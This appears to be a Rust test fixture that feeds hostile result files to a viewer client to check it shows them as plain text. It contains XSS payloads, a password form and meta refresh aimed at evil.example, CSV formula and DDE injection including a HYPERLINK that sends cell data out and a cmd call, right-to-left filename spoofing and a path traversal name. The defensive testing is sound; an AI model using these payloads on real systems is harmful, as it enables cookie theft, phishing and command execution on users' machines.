//! Result files whose names and contents are attacks, to test that a client shows them as text. They are made from what
//! users upload, so that JESS does not keep them out.

use crate::files::ResultFile;

/// The paths and the contents.
const HOSTILE_FILES: &[(&str, &str)] = &[
    // Scripts that would run in the origin of the page.
    (
        "report.htm",
        "<!DOCTYPE html>\n<html><head><title>Report</title><script>alert(document.cookie)</script>\n\
         <meta http-equiv=refresh content=\"0;url=//evil.example/\"></head>\n\
         <body onload=\"alert(1)\"><h1>Report</h1><img src=x onerror=\"alert(2)\">\n\
         <form action=//evil.example/><input name=password></form></body></html>\n",
    ),
    (
        "plan.svg",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(2)</script></svg>\n",
    ),
    ("viewer.js", "document.title = document.cookie; alert(1);\n"),
    // Cells that spreadsheets take for formulas, and cells that end their row or column.
    (
        "formulas.csv",
        "Zone,Value\n=HYPERLINK(\"//evil.example/?\"&A1),1\n+1+cmd|'/C calc'!A0,2\n-2+3,3\n@SUM(1:9),4\n\
         \"quoted, with \"\"quotes\"\" and\na line break\",5\n\"never closed,6\n<img src=x onerror=alert(1)>,7\n\
         \tindented,\u{202e}8\n",
    ),
    // A summary that is none, in a message.
    (
        "messages.err",
        "   ** Warning ** <b>EnergyPlus Completed Successfully-- 0 Warning; 0 Severe Errors</b>\n\
         \u{1b}[31mred\u{1b}[0m \u{0}null\r\n   ** Severe  ** \u{202e}exe.fdp\n",
    ),
    // Names with the syntax of headers, markup, URLs and paths.
    ("a \"quoted\" 'name'.csv", "Zone,Value\n"),
    ("<b>bold<img src=x onerror=alert(1)>.csv", "Zone,Value\n"),
    ("slash%2Fin the name.csv", "Zone,Value\n"),
    ("100 %.csv", "Zone,Value\n"),
    ("query?ext=csv&a=b#fragment.csv", "Zone,Value\n"),
    ("semicolon;.csv", "Zone,Value\n"),
    ("Übersicht 通風 🏢.csv", "Zone,Value\n"),
    ("\u{202e}vsc.exe", "Zone,Value\n"),
    ("__proto__", "Zone,Value\n"),
    ("constructor/toString.csv", "Zone,Value\n"),
    ("../../outside.csv", "Zone,Value\n"),
];

/// Returns the files.
pub(crate) fn files() -> impl Iterator<Item = ResultFile> {
    HOSTILE_FILES.iter().map(|(path, text)| ResultFile::new(*path, *text))
}
